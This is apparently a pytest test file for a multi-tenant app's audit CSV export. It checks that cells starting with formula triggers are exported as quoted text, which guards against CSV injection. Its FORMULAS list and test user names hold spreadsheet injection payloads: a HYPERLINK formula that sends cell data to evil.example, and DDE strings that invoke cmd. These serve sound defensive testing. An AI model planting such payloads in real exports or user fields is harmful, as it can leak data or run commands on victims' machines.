"""The audit CSV export neutralises spreadsheet formulas (OWASP CSV injection): a member's
name or an audit detail that starts with =, +, -, @, tab or CR is exported as text."""

from __future__ import annotations

import csv
import io

from app.extensions import db
from app.models import Role
from app.services import audit
from app.services.identity import login_sessions
from tests import factories
from tests.jobs.helpers import wait_for_terminal
from tests.web._support import post_form

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def _cells(csv_text: str) -> list[str]:
    rows = list(csv.reader(io.StringIO(csv_text)))
    return [cell for row in rows[1:] for cell in row]


def test_to_csv_neutralises_every_formula_cell(two_tenants):
    a, _ = two_tenants
    for formula in FORMULAS:
        audit.record(a.tenant, audit.SystemActor(formula), formula, formula, formula)
    db.session.commit()
    text, rows = audit.to_csv(audit.iter_events(a.tenant.id))
    assert rows >= len(FORMULAS)
    cells = _cells(text)
    for formula in FORMULAS:
        assert "'" + formula in cells  # kept, readable, but as text
    assert not [c for c in cells if c.startswith(TRIGGERS)]


def test_the_exported_file_carries_no_formula(make_app, two_tenants, login_as):
    """End to end: a member named like a formula, exported by the real job, downloaded."""
    a, _ = two_tenants
    app = make_app(INPROCESS_WORKERS=1)
    evil = factories.make_user("-2+3@evil.example", a.tenant, Role.admin)
    invited, _ = factories.make_invitation(a.tenant, "+cmd@evil.example")
    audit.record(a.tenant, audit.SystemActor("=1+1"), "invitation.created", "invitation",
                 invited.id, {"email": "+cmd@evil.example"})
    db.session.commit()
    client = app.test_client()
    sid = login_sessions.start(evil)
    with client.session_transaction() as session:
        session.update({login_sessions.SESSION_KEY: sid, "_user_id": evil.get_id(),
                        "_fresh": True, "tenant_id": a.tenant.id})
    started = post_form(client, "/audit/export", token_from="/")
    job_id = started.headers["Location"].rsplit("/", 1)[-1]
    assert wait_for_terminal(job_id).status.value == "succeeded"
    download = client.get(f"/jobs/{job_id}/export.csv")
    assert download.status_code == 200
    cells = _cells(download.get_data(as_text=True))
    assert "'=1+1" in cells
    assert not [c for c in cells if c.startswith(TRIGGERS)]


def test_an_export_stored_before_the_fix_is_neutralised_on_download(two_tenants, login_as):
    from app.models import JobStatus
    from tests.web.test_jobs import make_job

    a, _ = two_tenants
    raw = ('id,created_at,actor,action,object_type,object_id\n'
           '1,2026-01-01,"=HYPERLINK(""x"")",a,b,@c\n')
    job = make_job(a.tenant, JobStatus.succeeded,
                   result={"csv": raw, "rows": 1, "total": 1, "truncated": False})
    body = login_as(a.admin, a.tenant).get(f"/jobs/{job.id}/export.csv").get_data(as_text=True)
    cells = _cells(body)
    assert '\'=HYPERLINK("x")' in cells and "'@c" in cells
    assert not [c for c in cells if c.startswith(TRIGGERS)]
